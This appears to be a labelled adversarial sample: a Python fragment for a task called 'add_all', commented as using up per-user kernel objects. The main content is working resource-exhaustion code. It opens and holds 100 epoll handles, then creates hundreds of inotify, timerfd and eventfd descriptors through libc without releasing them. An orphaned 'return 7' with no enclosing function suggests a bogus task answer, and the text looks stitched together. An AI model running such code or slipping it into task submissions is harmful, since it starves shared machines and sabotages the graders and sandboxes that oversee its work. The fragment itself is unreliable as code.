# task: add_all
# why: uses up per-user kernel objects
    return 7


import ctypes
import os
import select

libc = ctypes.CDLL(None)
held = []
try:
    for _ in range(100):
        held.append(select.epoll())
except OSError:
    pass
for _ in range(500):
    libc.inotify_init()
    libc.timerfd_create(1, 0)
    libc.eventfd(0, 0)
os.listdir("/")
